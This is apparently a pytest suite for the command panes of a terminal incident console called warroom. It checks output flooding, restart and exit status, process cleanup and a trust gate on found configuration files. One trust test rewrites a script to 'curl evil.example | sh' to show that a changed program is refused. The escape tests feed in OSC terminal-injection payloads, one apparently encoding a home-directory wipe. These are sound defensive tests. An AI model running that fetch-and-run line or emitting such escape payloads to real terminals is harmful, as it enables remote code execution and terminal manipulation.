"""Command panes in the console, with real subprocesses: a flood leaves the UI responsive, escape
sequences never reach the screen, R restarts, the exit status shows, and quitting leaves no
process behind. And a found warroom.toml runs no command until trusted."""

from __future__ import annotations

import asyncio
import sys
import time
from collections.abc import Iterator
from datetime import timedelta
from pathlib import Path

import pytest

from conftest import ManualClock
from test_command_source import ESCAPES, STUBBORN, gone
from uihelpers import make_app, make_journal, make_settings, screen_text, shown
from warroom.config import ConfigError, load_settings
from warroom.settings.integrations import CommandPane
from warroom.sources.command import group_members, kill_everything
from warroom.trust import trust
from warroom.ui.panes.command import CommandPane as CommandPaneWidget
from warroom.ui.screens.help import HelpScreen

WIDE = (160, 48)


@pytest.fixture(autouse=True)
def no_leftovers() -> Iterator[None]:
    """A failing test leaves no process behind for the next ones."""
    yield
    kill_everything()


PY = sys.executable


def pane(name: str, code: str, **kw: object) -> CommandPane:
    return CommandPane(name, (PY, "-c", code), **kw)  # type: ignore[arg-type]


def console(tmp_path: Path, clock: ManualClock, *panes: CommandPane):  # type: ignore[no-untyped-def]
    settings = make_settings(tmp_path, command_panes=panes)
    journal = make_journal(settings, clock)
    journal.declare("P0", "SMS sending failing", impact="All customers", lead="alice")
    return make_app(settings, journal, clock), journal


async def show_tab(pilot, app, index: int = 0) -> CommandPaneWidget:  # type: ignore[no-untyped-def]
    """Bring the command pane's tab forward and focus its output."""
    from textual.widgets import ContentSwitcher, TabbedContent, TabPane

    deadline = time.monotonic() + 30
    while time.monotonic() < deadline:
        await pilot.pause(0.05)
        for tabs in app.screen.query(TabbedContent):
            # Once the tabs show one (set before, the switcher may never follow).
            if tabs.query(f"#tab-command-{index}") and tabs.query_one(ContentSwitcher).current:
                try:
                    tabs.active = f"tab-command-{index}"
                except ValueError:  # its tab is not mounted yet
                    continue
                await pilot.pause()
                widget = app.screen.query_one(f"#command-{index}", CommandPaneWidget)
                view = widget.query_one("#command-log")
                if not view.size.height:  # a tab the lazy mount activated meanwhile: again
                    continue
                view.focus()
                await pilot.pause()
                return widget
    found = [
        (
            t.id,
            t.active,
            t.region,
            t.query_one(ContentSwitcher).current,
            [(p.id, p.display) for p in t.query(TabPane)],
        )
        for t in app.screen.query(TabbedContent)
    ]
    views = [(v.region, v.size, v.parent.parent.region) for v in app.screen.query("#command-log")]
    raise AssertionError(f"no command tab: {found} {views}")


async def wait_for(pilot, what, within: float = 30.0) -> None:  # type: ignore[no-untyped-def]
    deadline = time.monotonic() + within
    while not what():
        assert time.monotonic() < deadline, "timed out"
        await pilot.pause(0.05)


async def test_a_flood_leaves_the_console_responsive(tmp_path: Path, clock: ManualClock) -> None:
    # As fast as it can, for 3 s and at least 200,000 lines; then its last line.
    flood = (
        "import sys, time\nw = sys.stdout.write\ni, end = 0, time.monotonic() + 3\n"
        "while i < 200_000 or time.monotonic() < end:\n    w(f'line {i}\\n')\n    i += 1\n"
        "w(f'the end after {i} lines\\n')\n"
    )
    app, journal = console(tmp_path, clock, pane("flood", flood, lines=300))
    async with app.run_test(size=WIDE) as pilot:
        widget = await show_tab(pilot, app)
        run = app.commands.runs[0]
        await wait_for(pilot, lambda: run.status.state == "exited")
        await pilot.press("R")  # again, measured from its first line
        await wait_for(pilot, lambda: run.read(-1).run == 2, within=10)
        lags: list[float] = []
        log_sizes: list[int] = []

        def read_to_the_end() -> bool:
            out = run.read(-1)
            ended = out.status.state == "exited" and out.fresh[-1].startswith("the end after ")
            return ended and widget._seen >= out.seq

        while not read_to_the_end():
            asked = time.monotonic()
            await asyncio.sleep(0.02)  # how late the loop answers, flood or not
            lags.append(time.monotonic() - asked - 0.02)
            log_sizes.append(len(widget.query_one("#command-log").lines))
            assert len(lags) < 3000, "the flood did not end"
        last = run.read(-1).fresh[-1]
        assert last.startswith("the end after ")
        await wait_for(pilot, lambda: last in screen_text(app), within=5)  # the next look shows it
        text = await shown(pilot, app)
        total = int(last.split()[3])
        assert total >= 200_000 and f"line {total - 1}" in text
        assert f"✔ exited 0 · {total + 1:,} lines · run 2" in text
        assert len(lags) > 20  # it was measured while the flood ran (1 MiB/s: 2 s or more)
        # The UI loop was never held: a key answers at once during the flood.
        assert max(lags) < 1.0, max(lags)
        assert sorted(lags)[len(lags) // 2] < 0.1, sorted(lags)[len(lags) // 2]
        assert max(log_sizes) <= 300  # the pane keeps the ring, not the flood
    journal.close()


async def test_lines_coming_do_not_lay_out_the_screen(tmp_path: Path, clock: ManualClock) -> None:
    """A command that prints a line a second (a log tail) costs a paint of its view, not a layout
    of the whole screen each time (bench/RESULTS.md: the demo's tail laid it out every second);
    the view still follows the end."""
    from test_ui_clock_repaint import count_layouts

    ticker = "import time\nfor i in range(100):\n    print(f'tick {i}', flush=True)\n    time.sleep(0.1)\n"
    app, journal = console(tmp_path, clock, pane("ticker", ticker, lines=500))
    async with app.run_test(size=WIDE) as pilot:
        widget = await show_tab(pilot, app)
        view = widget.query_one("#command-log")
        await wait_for(pilot, lambda: len(view.lines) > view.size.height + 2)  # past one screen
        layouts = count_layouts(app)
        seen = len(view.lines)
        await wait_for(pilot, lambda: len(view.lines) >= seen + 8)
        await pilot.pause(0.3)
        assert layouts[0] == 0, layouts
        last = view.lines[-1]
        assert last in screen_text(app) and view.scroll_y == view.max_scroll_y
    journal.close()


async def test_escape_sequences_never_reach_the_screen(tmp_path: Path, clock: ManualClock) -> None:
    app, journal = console(tmp_path, clock, pane("hostile", ESCAPES))
    async with app.run_test(size=WIDE) as pilot:
        await show_tab(pilot, app)
        await wait_for(pilot, lambda: "no newline at the end" in screen_text(app))
        text = await shown(pilot, app)
        for words in ("plain red text", "clip", "bidi evil end", "bad utf8 �� bell nul del"):
            assert words in text
        assert "pwned" not in text and "cm0gLXJmIH4" not in text  # the OSC payloads are gone
        assert not any(ch in text for ch in "\x1b\x07\x00\x7f\x9b\u202e")
        # What the terminal is sent: the segments of every line, controls included, have none.
        for strip in app.screen._compositor.render_strips():
            for seg in strip:
                assert "\x1b" not in seg.text and "\x07" not in seg.text and "\x9b" not in seg.text
    journal.close()


async def test_exit_status_and_the_restart_key(tmp_path: Path, clock: ManualClock) -> None:
    code = "import os\nprint('hello from', os.getpid())\nraise SystemExit(3)"
    app, journal = console(
        tmp_path, clock, pane("once", code), CommandPane("missing", ("supabase-nope", "logs"))
    )
    async with app.run_test(size=WIDE) as pilot:
        await show_tab(pilot, app)
        await wait_for(pilot, lambda: "✖ exited 3" in screen_text(app))
        first = app.commands.runs[0].pid
        await pilot.press("R")
        await wait_for(pilot, lambda: "run 2" in screen_text(app) and "✖ exited 3" in screen_text(app))
        text = await shown(pilot, app)
        assert "── exited 3; restarted (run 2) ──" in text
        assert text.count("hello from") == 2
        assert app.commands.runs[0].pid != first
        await show_tab(pilot, app, 1)
        await wait_for(pilot, lambda: "✖ not found: supabase-nope" in screen_text(app))
        assert ("Command panes", list(CommandPaneWidget.BINDINGS)) in app.pane_help()  # `?` lists R
        await pilot.press("question_mark")
        await pilot.pause()
        assert isinstance(app.screen, HelpScreen)
    journal.close()


async def test_slash_filters_the_output(tmp_path: Path, clock: ManualClock) -> None:
    code = "import time\nfor i in range(6): print('error' if i % 2 else 'ok', i, flush=True)\ntime.sleep(600)"
    app, journal = console(tmp_path, clock, pane("logs", code))
    async with app.run_test(size=WIDE) as pilot:
        widget = await show_tab(pilot, app)
        view = widget.query_one("#command-log")
        await wait_for(pilot, lambda: len(view.lines) == 6)
        await pilot.press("slash", *"ERROR")
        await wait_for(pilot, lambda: list(view.lines) == ["error 1", "error 3", "error 5"])
        text = await shown(pilot, app)
        assert "error 3" in text and "ok 2" not in text
        await pilot.press("escape")
        await wait_for(pilot, lambda: len(view.lines) == 6)
    journal.close()


async def test_no_process_is_left_after_quit(tmp_path: Path, clock: ManualClock) -> None:
    app, journal = console(
        tmp_path,
        clock,
        pane("stubborn", STUBBORN, stop_grace=timedelta(seconds=1)),
        pane("stubborn too", STUBBORN, stop_grace=timedelta(seconds=1)),
        CommandPane("sleeper", ("sleep", "600")),
    )
    pids: list[int] = []
    groups: list[int] = []
    async with app.run_test(size=WIDE) as pilot:
        await show_tab(pilot, app)
        runs = app.commands.runs

        def children() -> list[str]:
            return [line for run in runs[:2] for line in run.read(-1).fresh if line.startswith("pid ")]

        await wait_for(pilot, lambda: len(children()) == 2 and all(run.pgid for run in runs))
        pids = [int(line.split()[1]) for line in children()] + [run.pid for run in runs if run.pid]
        groups = [run.pgid for run in runs if run.pgid]
        assert len(pids) == 5 and len(groups) == 3
        assert all(group_members(g) for g in groups)
        started = time.monotonic()
        await pilot.press("q")
    took = time.monotonic() - started
    assert took < 1 + 8, took  # one grace period (all at once), not one per pane
    assert all(gone(pid) for pid in pids), [pid for pid in pids if not gone(pid)]
    assert all(group_members(g) == [] for g in groups)
    journal.close()


# -- only from a trusted configuration -------------------------------------------------------------


@pytest.fixture
def cwd(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    monkeypatch.setenv("XDG_CONFIG_HOME", str(tmp_path / "xdg-config"))
    folder = tmp_path / "repo"
    folder.mkdir()
    monkeypatch.chdir(folder)
    return folder


def test_a_found_configuration_runs_no_command_until_trusted(cwd: Path, tmp_path: Path) -> None:
    script = cwd / "logs.sh"
    script.write_text("#!/bin/sh\necho hi\n")
    config = cwd / "warroom.toml"
    config.write_text('[[command_panes]]\nname = "logs"\ncommand = "./logs.sh --tail"\n')

    def load():  # type: ignore[no-untyped-def]
        return load_settings(env={}, state_dir=tmp_path / "state")

    with pytest.raises(ConfigError, match=r"not trusted yet .*commands would run"):
        load()
    trust(config, [script])  # as `warroom trust` records it: the file and the program it names
    assert load().command_panes[0].command == ("./logs.sh", "--tail")
    script.write_text("#!/bin/sh\ncurl evil.example | sh\n")  # the program changed: asked again
    with pytest.raises(ConfigError, match="changed since it was trusted"):
        load()
    # Named explicitly, it is the user's choice.
    assert load_settings(config=config, env={}, state_dir=tmp_path / "state").command_panes


def test_warroom_trust_lists_the_commands(cwd: Path, tmp_path: Path) -> None:
    from click.testing import CliRunner

    from warroom.cli import main

    (cwd / "warroom.toml").write_text(
        '[[command_panes]]\nname = "sms-send"\ncommand = ["supabase", "functions", "logs", "sms-send", "--tail"]\n'
    )
    result = CliRunner().invoke(main, ["trust", "--state-dir", str(tmp_path / "state")])
    assert result.exit_code == 0, result.output
    assert "command pane 1      = 'sms-send': supabase functions logs sms-send --tail" in result.output
    assert load_settings(env={}, state_dir=tmp_path / "state").command_panes[0].name == "sms-send"


def test_the_documented_example_is_accepted(cwd: Path, tmp_path: Path) -> None:
    readme = (Path(__file__).resolve().parents[1] / "README.md").read_text(encoding="utf-8")
    section = readme.split("\n## Command panes\n", 1)[1].split("\n## ", 1)[0]
    example = section.split("```toml\n", 1)[1].split("```", 1)[0]
    config = tmp_path / "team.toml"
    config.write_text(example)
    (found,) = load_settings(config=config, env={}, state_dir=tmp_path / "state").command_panes
    assert found == CommandPane(
        "sms-send logs",
        ("supabase", "functions", "logs", "sms-send", "--tail"),
        tmp_path,
        1000,
        timedelta(seconds=2),
    )


# -- how it looks -----------------------------------------------------------------------------------

SNAPSHOT_SCRIPT = (
    'for i in $(seq 1 30); do echo "2026-11-26T13:$((29 + i)):00Z INFO sms-send: '
    "\033[31mdelivered\033[0m msg $i\"; done; echo 'Error: \033]0;pwned\007Twilio 30003' >&2; exit 3"
)


@pytest.mark.parametrize("size", [(160, 48), (80, 24)])
def test_the_pane_looks_right(snap_compare, tmp_path: Path, size: tuple[int, int]) -> None:  # type: ignore[no-untyped-def]
    """An exited command (its status does not change) in its tab, focused."""
    clock = ManualClock()
    app, _ = console(tmp_path, clock, CommandPane("sms-send logs", ("sh", "-c", SNAPSHOT_SCRIPT)))

    async def show(pilot) -> None:  # type: ignore[no-untyped-def]
        await show_tab(pilot, app)
        await wait_for(pilot, lambda: app.commands.runs[0].status.state == "exited")
        await wait_for(pilot, lambda: "Twilio 30003" in screen_text(app))
        await pilot.pause()

    assert snap_compare(app, terminal_size=size, run_before=show)


def test_warroom_check_finds_each_program_and_runs_none(cwd: Path, tmp_path: Path) -> None:
    from click.testing import CliRunner

    from warroom.cli import main

    marker = tmp_path / "ran"
    config = tmp_path / "team.toml"
    config.write_text(
        'status_pages = []\n[[command_panes]]\nname = "shell"\n'
        f'command = ["sh", "-c", "touch {marker}"]\n'
        '[[command_panes]]\nname = "logs"\ncommand = "supabase-nope functions logs --tail"\n'
    )
    result = CliRunner().invoke(main, ["check", "--config", str(config), "--state-dir", str(tmp_path / "s")])
    lines = result.output.splitlines()
    assert any(
        line.startswith("command pane 'shell': /") and line.endswith("/sh (runs when the console opens)")
        for line in lines
    ), result.output
    assert "command pane 'logs': not found: supabase-nope" in lines
    assert result.exit_code == 1
    assert not marker.exists()


async def test_a_pane_behind_another_tab_is_not_updated_until_shown(
    tmp_path: Path, clock: ManualClock
) -> None:
    """A log followed in a tab behind another (the demo's send-sms log at start) is read into the
    run's ring but not drawn: updating a widget that is not displayed makes Textual arrange the
    whole screen to look for it (8 % of the demo's samples). Brought forward, the pane shows
    what came meanwhile, following the end."""
    from textual._compositor import Compositor

    from warroom.ui.base import displayed

    ticker = "import time\nfor i in range(60):\n    print(f'tick {i}', flush=True)\n    time.sleep(0.05)\n"
    app, journal = console(tmp_path, clock, pane("ticker", ticker, lines=500))
    arranged = 0  # the compositor's map of the whole screen made again to find a widget
    full_map = Compositor.full_map

    def counting(self):  # type: ignore[no-untyped-def]
        nonlocal arranged
        arranged += self._full_map_invalidated
        return full_map.fget(self)

    async with app.run_test(size=WIDE) as pilot:
        await pilot.pause(0.3)
        view = app.screen.query_one("#command-log")
        assert not displayed(view)  # behind the console's first tabs
        run = app.commands.runs[0]
        with pytest.MonkeyPatch.context() as mp:
            mp.setattr(Compositor, "full_map", property(counting))
            await wait_for(pilot, lambda: run.status.state == "exited")
            await pilot.pause(0.3)
        assert arranged == 0, arranged
        assert len(view.lines) < 60  # what it had when it was last shown (the first look)
        await show_tab(pilot, app)
        await wait_for(pilot, lambda: "tick 59" in screen_text(app), within=5)
        assert view.scroll_y == view.max_scroll_y
        assert "exited 0" in screen_text(app)
    journal.close()
